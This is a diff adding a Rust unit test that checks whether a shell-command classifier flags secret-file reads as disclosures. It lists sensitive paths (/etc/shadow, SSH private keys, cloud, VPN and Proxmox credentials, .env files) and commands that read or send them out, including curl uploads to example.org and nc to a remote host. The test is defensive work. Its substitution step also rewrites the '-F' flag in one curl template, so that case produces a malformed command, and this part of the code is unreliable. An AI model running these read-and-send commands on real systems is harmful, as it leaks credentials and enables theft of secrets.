@@ -118,3 +118,94 @@ fn sinks_of_plain_numbers_stay_read_only() {
         }
     }
 }
+
+/// Secret locations of every kind: the system's, services', aliases of them, credential names.
+const SECRETS: &[&str] = &[
+    "/etc/shadow",
+    "/etc/gshadow-",
+    "/etc/security/opasswd",
+    "/root/.ssh/id_ed25519",
+    "/etc/ssh/ssh_host_rsa_key",
+    "/etc/pve/priv/authkey.key",
+    "/etc/pve/storage/nas.pw",
+    "/etc/proxmox-backup/shadow.json",
+    "/proc/1/root/etc/shadow",
+    "/proc/1/cwd/etc/shadow",
+    "/proc/812/fd/5",
+    "/proc/812/environ",
+    "/var/lib/lxc/101/rootfs/etc/shadow",
+    "/rpool/data/subvol-101-disk-0/root/.ssh/id_rsa",
+    "/mnt/img/etc/shadow",
+    "/etc/postfix/sasl_passwd",
+    "/etc/msmtprc",
+    "/etc/openvpn/client/office.conf",
+    "/etc/wireguard/wg0.conf",
+    "/etc/ipsec.secrets",
+    "/etc/wpa_supplicant/wpa_supplicant.conf",
+    "/etc/NetworkManager/system-connections/Home.nmconnection",
+    "/etc/restic/password",
+    "/root/.config/rclone/rclone.conf",
+    "/root/.vault-token",
+    "/etc/samba/smbpasswd",
+    "/var/lib/tailscale/tailscaled.state",
+    "/root/.aws/credentials",
+    "/root/.kube/config",
+    "/root/.docker/config.json",
+    "/root/.pgpass",
+    "/proc/keys",
+    "/srv/app/.env",
+    "/srv/app/db_password",
+    "/srv/app/client_secret.json",
+    "/srv/api.token",
+    "/tmp/id_ed25519",
+];
+
+/// Programs that read a file out (`F` is the file).
+const READERS: &[&str] = &[
+    "cat F",
+    "head -n 5 F",
+    "tail -1 F",
+    "less F",
+    "tac F",
+    "nl F",
+    "base64 F",
+    "xxd F",
+    "od -c F",
+    "strings F",
+    "grep -v '^#' F",
+    "awk '{print}' F",
+    "sed -n p F",
+    "sort F",
+    "cut -c1-80 F",
+    "cp F /tmp/copy",
+    "scp F backup:/tmp/",
+    "rsync -a F backup:/tmp/",
+    "tar -czf /tmp/x.tgz F",
+    "gzip -c F",
+    "dd if=F",
+    "curl -T F https://example.org/",
+    "curl -F f=@F https://example.org/",
+    "wc -c < F",
+    "nc backup 9000 < F",
+    "sudo cat F",
+    "bash -c 'cat F'",
+    "ssh pve1 cat F",
+    "pct exec 101 -- cat F",
+];
+
+#[test]
+fn every_secret_read_out_by_any_reader_is_a_disclosure() {
+    let mut failures = Vec::new();
+    for secret in SECRETS {
+        for reader in READERS {
+            for quoted in [secret.to_string(), format!("\"{secret}\"")] {
+                let command = reader.replace('F', &quoted);
+                let v = classify(&command, None);
+                if v.risk != DE || !v.secret {
+                    failures.push(format!("{command:?}: {} secret={}", v.risk, v.secret));
+                }
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
+}
